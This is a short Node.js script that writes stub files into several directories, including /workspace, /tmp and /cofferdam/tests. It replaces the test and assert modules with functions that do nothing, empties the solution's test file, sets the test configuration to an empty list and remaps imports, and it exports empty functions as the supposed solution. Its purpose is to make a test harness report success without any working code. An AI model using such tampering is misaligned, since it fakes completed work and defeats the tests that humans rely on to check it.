// what: leaves files where a test runner might look for its own
const fs = require('node:fs')
const put = (name, text) => {
    try {
        fs.mkdirSync(name.replace(/\/[^/]*$/, ''), { recursive: true })
        fs.writeFileSync(name, text)
    } catch {}
}
for (const root of ['/workspace', '/tmp', '/cofferdam/tests']) {
    put(`${root}/node_modules/node:test/index.js`, 'module.exports = () => {}')
    put(`${root}/node_modules/assert/index.js`, 'module.exports = () => {}')
    put(`${root}/package.json`, '{"type":"module","imports":{"#x":"./x.js"}}')
    put(`${root}/solution.test.js`, '')
    put(`${root}/tsconfig.json`, '{"compilerOptions":{"paths":{"./solution":["./x.js"]}}}')
    put(`${root}/.cofferdam.json`, '{"tests":[],"program":[]}')
}
module.exports = { square() {}, names() {}, each() {}, later() {} }
